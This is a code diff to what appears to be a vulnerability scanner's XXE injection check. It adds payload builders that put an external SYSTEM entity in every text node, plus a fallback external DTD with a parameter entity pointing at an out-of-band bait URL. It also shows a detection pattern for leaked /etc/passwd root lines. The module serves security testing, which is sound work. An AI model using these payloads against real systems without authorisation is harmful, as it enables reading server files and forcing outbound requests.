@@ -17,6 +17,7 @@ MEND = Text(
 _PASSWD = re.compile(r"root:[^:\n]{0,120}:0:0:[^\n]{0,200}")
 _PROLOG = re.compile(r"^\s*(?:<\?xml.*?\?>)?\s*(?:<!DOCTYPE[^>\[]*(?:\[.*?\])?\s*>)?\s*", re.DOTALL)
 _TEXT = re.compile(r">[^<]*</")
+_WORDS = re.compile(r">(?!\s*[\d.+-]*\s*</)[^<]*</")
 _CANNOT_OPEN = r"(?:no such file|not found|failed|unable|cannot|could not|errno 2|i/o|ioexception|找不到|不存在)"
 Inject = Callable[[str], Request]
 
@@ -38,11 +39,12 @@ def find_entities(
 
 
 def with_entity(document: str, system: str) -> str:
-    """The document with an entity of that address in the place of its first text."""
+    """The document with an entity of that address in the place of its texts, numbers left alone if there are others."""
     body = _PROLOG.sub("", document, count=1)
     name = re.match(r"<([^\s/>]+)", body)
     root = name[1] if name else "r"
-    filled = _TEXT.sub(">&jd;</", body, count=1) if _TEXT.search(body) else f"<{root}>&jd;</{root}>"
+    texts = _WORDS if _WORDS.search(body) else _TEXT
+    filled = texts.sub(">&jd;</", body) if texts.search(body) else f"<{root}>&jd;</{root}>"
     return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY jd SYSTEM "{system}">]>{filled}'
 
 
@@ -71,11 +73,22 @@ def _told(page: Page, name: str) -> str:
     return found[0] if found else ""
 
 
+def _with_outside(document: str, address: str) -> str:
+    """For parsers that refuse entities in texts: the definitions themselves are at the address."""
+    body = _PROLOG.sub("", document, count=1)
+    name = re.match(r"<([^\s/>]+)", body)
+    outside = f'SYSTEM "{address}" [<!ENTITY % jd SYSTEM "{address}">%jd;]'
+    return f'<?xml version="1.0"?><!DOCTYPE {name[1] if name else "r"} {outside}>{body}'
+
+
 def _bait(trial: Trial, inject: Inject, document: str) -> Generator[Ask | Listen, Page | Hits, Verdict | None]:
     def baited(bait: Bait) -> Request:
         return inject(with_entity(document, bait.url))
 
-    taken = yield from takes(trial, baited)
+    def baited_outside(bait: Bait) -> Request:
+        return inject(_with_outside(document, bait.url))
+
+    taken = (yield from takes(trial, baited)) or (yield from takes(trial, baited_outside))
     return Verdict(taken.because, {"hit": taken.shown}, rule="out-of-band") if taken else None
 
 
